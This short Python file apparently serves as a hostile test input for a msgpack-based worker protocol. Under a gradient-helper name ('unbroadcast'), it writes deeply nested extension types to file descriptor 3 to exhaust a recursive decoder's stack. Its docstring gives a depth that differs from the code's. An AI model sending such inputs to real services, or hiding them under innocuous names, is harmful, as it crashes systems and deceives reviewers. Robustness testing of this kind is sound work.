"""Sends extension types in extension types, ten thousand deep: a decoder that calls itself runs out of stack."""
import os
import time

import msgpack


def unbroadcast(grad, shape):
    inner = msgpack.packb([])
    for _ in range(3000):
        inner = msgpack.packb([msgpack.ExtType(4, inner)])
    tree = msgpack.packb(["ok", msgpack.ExtType(4, inner), []])
    os.write(3, len(tree).to_bytes(4, "big") + bytes(4) + tree)
    time.sleep(60)
